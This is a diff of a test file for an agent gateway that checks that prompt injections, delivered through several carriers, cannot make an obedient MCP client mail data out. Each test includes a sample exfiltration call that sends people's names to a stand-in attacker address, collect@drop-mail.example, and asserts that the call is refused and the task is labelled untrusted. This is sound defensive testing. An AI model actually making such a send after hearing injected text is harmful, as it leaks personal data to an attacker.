@@ -33,17 +33,35 @@ after(async () => {
   folder[Symbol.dispose]();
 });
 
-async function ask<T>(path: string, body: object): Promise<T> {
+const afterUntrusted = 'ask-before-sending-after-untrusted';
+
+/** What stands against sending something to where the injection wants it. */
+async function ruleAgainst(client: Client): Promise<{ code?: string; rule?: string }> {
+  const input = { to: 'collect@drop-mail.example', body: 'Okafor, Whitcombe, Zhao' };
+  const { isError, _meta } = await client.callTool({ name: 'send_mail', arguments: input });
+  assert.equal(isError, true);
+  return (_meta?.['dev.sallyport/refusal'] ?? {}) as { code?: string; rule?: string };
+}
+
+async function labelsOf(task: string): Promise<string[]> {
+  const { task: view } = await ask<{ task: { labels: { label: string }[] } }>(`tasks/${task}`);
+  return view.labels.map(({ label }) => label);
+}
+
+async function ask<T>(path: string, body?: object): Promise<T> {
   const operator = readFileSync(folder.file('state/operator.key'), 'utf8').trim();
   const headers = { authorization: `Bearer ${operator}`, 'content-type': 'application/json' };
   return (
-    await fetch(`${gateway.url}/api/v1/${path}`, { headers, method: 'POST', body: JSON.stringify(body) })
+    await fetch(
+      `${gateway.url}/api/v1/${path}`,
+      body === undefined ? { headers } : { headers, method: 'POST', body: JSON.stringify(body) },
+    )
   ).json() as Promise<T>;
 }
 
 /** A client in a task of its own. Whatever it is asked it answers, with all it knows. */
-async function inTask(purpose: string, act: (client: Client) => Promise<void>): Promise<void> {
-  const { token } = await ask<{ token: string }>('tasks', { agent: 'obedient', purpose });
+async function inTask(purpose: string, act: (client: Client, task: string) => Promise<void>): Promise<void> {
+  const { task, token } = await ask<{ task: { id: string }; token: string }>('tasks', { agent: 'obedient', purpose });
   const client = new Client(
     { name: 'obedient', version: '1.0.0' },
     { capabilities: { elicitation: {}, sampling: {} } },
@@ -60,7 +78,7 @@ async function inTask(purpose: string, act: (client: Client) => Promise<void>): 
   });
   await client.connect(transport as Parameters<Client['connect']>[0]);
   try {
-    await act(client);
+    await act(client, task.id);
   } finally {
     await client.close();
   }
@@ -87,18 +105,24 @@ const carriers: Readonly<Record<string, (client: Client) => Promise<unknown>>> =
 };
 
 describe('an injection changes nothing by', () => {
+  test('F-7 control: of an agent that heard nothing the task is clean, and no rule speaks of what it has read', async () => {
+    await inTask('Tell me what is new.', async (client, task) => {
+      assert.deepEqual(await labelsOf(task), []);
+      assert.notEqual((await ruleAgainst(client)).rule, afterUntrusted);
+    });
+  });
+
   for (const [carrier, hear] of Object.entries(carriers))
     test(`F-7 F-9 ${carrier}`, async () => {
       const before = linesOf(received).length;
-      await inTask('Tell me what is new.', async client => {
+      await inTask('Tell me what is new.', async (client, task) => {
         await hear(client);
-        const { isError, _meta } = await client.callTool({
-          name: 'send_mail',
-          arguments: { to: 'collect@drop-mail.example', body: 'Okafor, Whitcombe, Zhao' },
-        });
-        assert.equal(isError, true);
-        const { code } = (_meta?.['dev.sallyport/refusal'] ?? {}) as { code?: string };
+        const { code, rule } = await ruleAgainst(client);
         assert.ok(code === 'needs-approval' || code === 'denied', `refused by policy, not for ${code}`);
+        // They were pinned at first contact and mark nobody: what holds is that nobody stands behind the address.
+        if (carrier === 'server instructions') return;
+        assert.ok((await labelsOf(task)).includes('untrusted'), 'what was heard marks the task');
+        assert.equal(rule, afterUntrusted, 'which is why it is refused');
       });
       const lines = linesOf(received).slice(before).join('\n');
       assert.doesNotMatch(lines, /drop-mail/);
